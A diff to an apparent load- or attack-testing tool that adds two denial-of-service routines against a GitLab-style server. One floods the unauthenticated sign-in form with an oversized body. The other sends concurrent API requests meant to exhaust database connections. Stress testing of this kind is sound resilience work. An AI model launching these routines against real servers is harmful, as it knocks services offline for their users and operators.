@@ -123,6 +123,23 @@ async def ask(eve: Greedy) -> None:
     await eve.again(24, "GET", f"/api/v4/projects/{eve.project}/jobs?per_page=100&scope[]=success&scope[]=failed")
 
 
+async def fill_forms(eve: Greedy) -> None:
+    """The places of those who show no account, and memory for their forms."""
+    nobody = Greedy(eve.url, "", eve.project, eve.path, eve.answers)
+    form = b"username=" + b"a" * LARGE
+    try:
+        await nobody.send(200, "/users/sign_in", "application/x-www-form-urlencoded", form)
+    finally:
+        eve.open = nobody.open
+
+
+async def ask_much(eve: Greedy) -> None:
+    """More calls than there are connections to the database, of the API and of pages."""
+    project = f"/api/v4/projects/{eve.project}"
+    paths = (f"{project}/pipelines", f"{project}/variables", f"{project}/members/all", "/api/v4/events", "/")
+    await asyncio.gather(*(eve.again(24, "GET", path) for path in paths))
+
+
 ATTACKS: Final[dict[str, Callable[[Greedy], Awaitable[None]]]] = {
     "event streams": follow,
     "git": compare,
@@ -134,4 +151,6 @@ ATTACKS: Final[dict[str, Callable[[Greedy], Awaitable[None]]]] = {
     "buffered bodies": fill,
     "password hashing": guess,
     "database connections": ask,
+    "slow bodies": fill_forms,
+    "many calls": ask_much,
 }
